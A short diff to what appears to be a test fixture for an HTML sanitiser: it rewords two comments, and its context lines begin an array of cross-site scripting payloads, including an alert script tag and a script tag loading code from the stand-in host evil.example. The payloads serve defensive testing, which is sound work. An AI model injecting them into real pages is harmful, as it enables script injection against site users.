@@ -1,7 +1,7 @@
-/** A picture as one that was uploaded here has it. */
+/** The address of an uploaded picture. */
 export const PICTURE = `/file/picture/${'a'.repeat(64)}`;
 
-/** Usual and unusual ones: tags, attributes, addresses, other namespaces, broken and nested markup, encodings. */
+/** Common and unusual payloads: tags, attributes, addresses, other namespaces, broken and nested markup, encodings. */
 export const payloads = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
